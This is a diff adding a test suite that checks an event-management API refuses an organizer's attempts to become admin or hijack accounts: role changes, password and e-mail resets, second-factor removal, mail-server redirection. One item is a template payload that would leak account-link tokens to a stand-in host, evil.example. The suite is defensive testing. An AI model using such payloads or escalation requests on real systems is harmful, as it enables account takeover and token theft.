@@ -1,0 +1,138 @@
+/**
+ * Every change by which an organizer could become an administrator, or take over the account of one. The security
+ * document shows the same table.
+ */
+import { afterAll, beforeEach, expect, test } from 'vitest'
+import { aPerson, aSessionCookie, aUser } from '../../tests/kit/builders.ts'
+import { createTestDatabase } from '../../tests/kit/database.ts'
+import { createTestApi, createTestServices } from '../../tests/kit/services.ts'
+import { aTemplateInput } from '../../tests/kit/templates.ts'
+import { passwords } from '../features/accounts/tables.ts'
+import { mailSettings } from '../features/messaging/tables.ts'
+import { people } from '../features/people/tables.ts'
+
+const database = await createTestDatabase()
+const { db } = database
+const services = await createTestServices(database)
+const api = createTestApi(services)
+
+interface Cast {
+  readonly own: number
+  readonly admin: number
+  readonly colleague: number
+  readonly attendee: number
+}
+let cast: Cast
+let headers: { Cookie: string }
+
+beforeEach(async () => {
+  const own = await aPerson(db, { role: 'organizer' })
+  cast = {
+    own: own.id,
+    admin: (await aUser(db, { role: 'admin' })).id,
+    colleague: (await aUser(db, { role: 'organizer' })).id,
+    attendee: (await aUser(db, { role: 'attendee' })).id,
+  }
+  headers = { Cookie: await aSessionCookie(db, own.id) }
+})
+
+afterAll(async () => {
+  await services.close()
+  await database.close()
+})
+
+type Attempt = readonly [what: string, path: string, body: (cast: Cast) => unknown, status?: number]
+
+const newPassword = 'Chosen-by-somebody-else-9'
+const newEmail = 'mailbox-of-the-organizer@example.ph'
+
+const attempts: readonly Attempt[] = [
+  ['makes themselves admin', '/users/update-details', ({ own }) => ({ userId: own, role: 'admin' })],
+  ['makes another admin', '/users/update-details', ({ attendee }) => ({ userId: attendee, role: 'admin' })],
+  ['demotes an admin', '/users/update-details', ({ admin }) => ({ userId: admin, role: 'staff' })],
+  ['edits a profile', '/attendees/update-profile', ({ own }) => ({ userId: own, role: 'admin' })],
+  [
+    'creates an admin',
+    '/users',
+    () => ({ displayName: 'New', email: newEmail, password: newPassword, role: 'admin' }),
+  ],
+  [
+    'sets the password of an admin',
+    '/users/change-password',
+    ({ admin }) => ({ userId: admin, newPassword }),
+  ],
+  [
+    'sets the password of an organizer',
+    '/users/change-password',
+    ({ colleague }) => ({ userId: colleague, newPassword }),
+  ],
+  ['moves the e-mail of an admin', '/users/update-email', ({ admin }) => ({ userId: admin, newEmail })],
+  [
+    'moves the e-mail of an organizer',
+    '/users/update-email',
+    ({ colleague }) => ({ userId: colleague, newEmail }),
+  ],
+  [
+    'removes the second factor of an admin',
+    '/users/remove-second-factors',
+    ({ admin }) => ({ userId: admin }),
+  ],
+  [
+    'removes the second factor of an organizer',
+    '/users/remove-second-factors',
+    ({ colleague }) => ({ userId: colleague }),
+  ],
+  ['deletes an admin', '/users/delete', ({ admin }) => ({ userId: admin })],
+  [
+    'points the mail at another server',
+    '/email/config/update',
+    () => ({ baseUrl: 'smtp://mail.example.ph:587', apiKey: 'own-key' }),
+  ],
+  ['changes the sender', '/email/config/update', () => ({ senderEmail: newEmail })],
+  [
+    'changes the webhook secret',
+    '/email/config/update',
+    () => ({ webhookSecret: 'a secret of their own 1' }),
+  ],
+  [
+    'writes the template of account links',
+    '/email/templates/create',
+    () => aTemplateInput({ templateType: 'account_link', htmlTemplate: '<a href="{{ accountLink }}">x</a>' }),
+  ],
+  [
+    'puts an account link into another template',
+    '/email/templates/create',
+    () => aTemplateInput({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' }),
+    400,
+  ],
+  ['removes sample data', '/attendees/remove-sample-data', () => ({})],
+]
+
+test.for(attempts)(
+  'an organizer who %s is refused, and nothing changes',
+  async ([, path, body, refusal = 403]) => {
+    const state = () =>
+      Promise.all([
+        db.select({ id: people.id, email: people.email, role: people.role }).from(people),
+        db.select().from(passwords),
+        db.$count(mailSettings),
+      ])
+    const before = await state()
+    const { status } = await api.call(path, { body: body(cast), headers })
+    expect(status).toBe(refusal)
+    expect(await state()).toEqual(before)
+  },
+)
+
+test('an organizer reads neither the audit log nor the bodies of account links', async () => {
+  expect((await api.call('/audit-log', { headers })).status).toBe(403)
+  await api.call('/users/send-password-link', { body: { userId: cast.attendee }, headers })
+  const { body } = await api.call<{ messages: { id: number }[] }>('/email/outbox', { headers })
+  const texts = await Promise.all(
+    body.messages.map(async ({ id }) =>
+      (await api.send(`/email/outbox/message?id=${id}`, { headers })).text(),
+    ),
+  )
+  expect(texts.length).toBeGreaterThan(0)
+  expect([JSON.stringify(body), ...texts].join('')).not.toContain('/account-link')
+})
